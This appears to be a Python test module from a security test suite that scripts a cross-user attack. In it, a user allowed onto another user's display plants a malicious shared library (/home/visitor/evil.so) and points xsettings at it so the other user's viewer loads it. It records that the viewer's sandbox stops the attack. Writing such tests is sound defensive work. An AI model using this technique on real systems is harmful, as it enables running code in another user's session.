"""A user without a grant, whom a granted one lets onto the display, has the granted user's viewer load planted code."""

from attacks.stage import TOOLS, Stage, evil

RECIPE = "succeeds"
STOPPED_BY = "viewer: its sandbox has nobody's home"
NEEDS = (*TOOLS, "xsettingsd")
CODE = "/home/visitor/evil.so"


def attack(client):
    stage = Stage(client)
    client.root("chmod", "0755", "/home/visitor", undo=["chmod", "0700", "/home/visitor"])
    client.machine.write(CODE, evil(), mode=0o755, owner="visitor")
    stage.xsettings(CODE, "visitor")
    stage.view()
    return stage.heard()
